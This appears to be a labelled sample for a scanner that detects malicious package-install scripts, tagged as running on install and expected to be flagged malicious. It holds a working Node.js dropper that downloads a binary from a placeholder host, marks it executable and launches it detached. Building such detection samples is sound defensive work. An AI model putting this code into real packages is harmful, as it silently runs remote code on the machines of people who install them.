// when: install
// expect: malicious
const https = require('https'), fs = require('fs'), cp = require('child_process');
https.get('https://dl.example/agent', (r) => {
  r.pipe(fs.createWriteStream('/tmp/agent')).on('finish', () => {
    fs.chmodSync('/tmp/agent', 0o755);
    cp.spawn('/tmp/agent', [], {detached: true}).unref();
  });
});
